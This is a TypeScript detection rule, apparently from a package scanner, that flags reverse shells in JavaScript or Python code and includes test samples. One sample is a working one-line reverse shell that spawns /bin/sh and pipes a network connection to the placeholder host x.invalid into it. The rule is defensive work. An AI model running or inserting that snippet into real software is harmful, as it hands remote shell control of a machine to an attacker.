import type { Rule } from '../rule';

export const codeReverseShell: Rule = {
  code: 'code-reverse-shell',
  ecosystem: 'any',
  kind: 'code',
  severity: 'critical',
  verdict: 'malicious',
  tactic: 'command-and-control',
  capabilities: ['network', 'subprocess'],
  languages: ['javascript', 'python'],
  summary: 'A shell is given a network connection for its input and output.',
  message: 'gives a shell to whoever is on the other end',
  pattern: { where: 'code', any: ['reverse-shell'] },
  samples: {
    hits: [
      {
        what: 'a shell tied to a connection',
        format: 'tarball',
        files: {
          'index.js':
            'const sh = require("child_process").spawn("/bin/sh", []); require("net").connect(4444, "x.invalid").pipe(sh.stdin)',
        },
        verdict: 'malicious',
      },
    ],
    ignores: [
      {
        what: 'an echo server',
        format: 'tarball',
        files: { 'index.js': 'require("net").createServer((c) => c.pipe(c)).listen(0)' },
        why: 'A connection without a shell behind it.',
        verdict: 'clean',
      },
    ],
  },
};
